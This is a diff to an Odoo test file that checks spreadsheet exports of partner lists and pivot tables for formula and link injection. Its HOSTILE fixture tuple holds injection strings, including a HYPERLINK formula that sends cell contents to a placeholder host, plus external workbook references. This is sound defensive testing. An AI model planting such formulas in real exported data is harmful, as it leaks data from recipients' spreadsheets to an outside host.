@@ -8,7 +8,7 @@ from odoo.tests.common import HttpCase, tagged
 
 from .common import CallcenterCase
 
-HOSTILE = ('=HYPERLINK("http://x.example/?"&A1)', "{=1+1}", "https://x.example/", "external:c:\\x.xlsx")
+HOSTILE = ('=HYPERLINK("http://x.example/?"&A1)', "{=1+1}", "external:c:\\x.xlsx", "internal:Sheet1!A1")
 
 
 @tagged("post_install", "-at_install")
@@ -18,8 +18,7 @@ class TestExport(CallcenterCase, HttpCase):
     @classmethod
     def setUpClass(cls):
         super().setUpClass()
-        cls.export_right = cls.env.ref("base.group_allow_export")
-        cls.export_right.user_ids = cls.manager = cls.users["manager"]
+        cls.env.ref("base.group_allow_export").user_ids = cls.manager = cls.users["manager"]
         cls.env["res.partner"].create([{"name": name, "city": name} for name in HOSTILE])
 
     def post(self, address, data, as_file=False):
@@ -66,17 +65,33 @@ class TestExport(CallcenterCase, HttpCase):
         self.assertEqual(self.pivot(model="no.model").status_code, 404)
         self.assertEqual(self.post("/web/pivot/export_xlsx", []).status_code, 404)
 
-    def test_nothing_in_a_pivot_table_is_a_formula_or_a_link(self):
+    def test_nothing_in_a_pivot_table_opens_or_works_out_anything(self):
         self.authenticate(self.manager.login, self.manager.login)
         # a page sends it as a file, a script may send it as a field
         for as_file in True, False:
             self.assertNoFormula(self.cells(self.pivot(as_file)), HOSTILE[:3])
 
-    def test_nothing_in_a_list_is_a_formula_or_a_link(self):
+    def test_groups_that_read_alike_keep_their_rows(self):
+        self.env["res.partner"].create([{"name": "Twin", "city": " =1"}, {"name": "Other", "city": "=1"}])
+        self.authenticate(self.manager.login, self.manager.login)
+        fields = [{"name": "name", "label": "Name", "type": "char"}]
+        data = {"model": "res.partner", "fields": fields, "ids": False, "domain": [["city", "in", ["=1", " =1"]]]}
+        data |= {"import_compat": False, "context": {}, "groupby": ["city"]}
+        self.assertNoFormula(self.cells(self.post("/web/export/xlsx", data)), ["Twin", "Other"])
+
+    def test_a_web_address_is_exported_as_it_is(self):
+        self.customer.website = "https://x.example/"
+        self.authenticate(self.manager.login, self.manager.login)
+        fields = [{"name": "website", "label": "Website", "type": "char"}]
+        data = {"model": "res.partner", "fields": fields, "ids": self.customer.ids, "domain": []}
+        data |= {"import_compat": False, "context": {}, "groupby": []}
+        self.assertIn(self.customer.website, [cell.value for cell in self.cells(self.post("/web/export/xlsx", data))])
+
+    def test_nothing_in_a_list_opens_or_works_out_anything(self):
         self.authenticate(self.manager.login, self.manager.login)
         for groupby in [], ["city"]:
             with self.subTest(groupby=groupby):
-                fields = [{"name": name, "label": name, "type": "char"} for name in ("name", "city")]
+                fields = [{"name": name, "label": f"={name}", "type": "char"} for name in ("name", "city")]
                 data = {"model": "res.partner", "fields": fields, "ids": False, "domain": [["city", "in", HOSTILE]]}
                 data |= {"import_compat": False, "context": {}, "groupby": groupby}
                 self.assertNoFormula(self.cells(self.post("/web/export/xlsx", data)), HOSTILE)
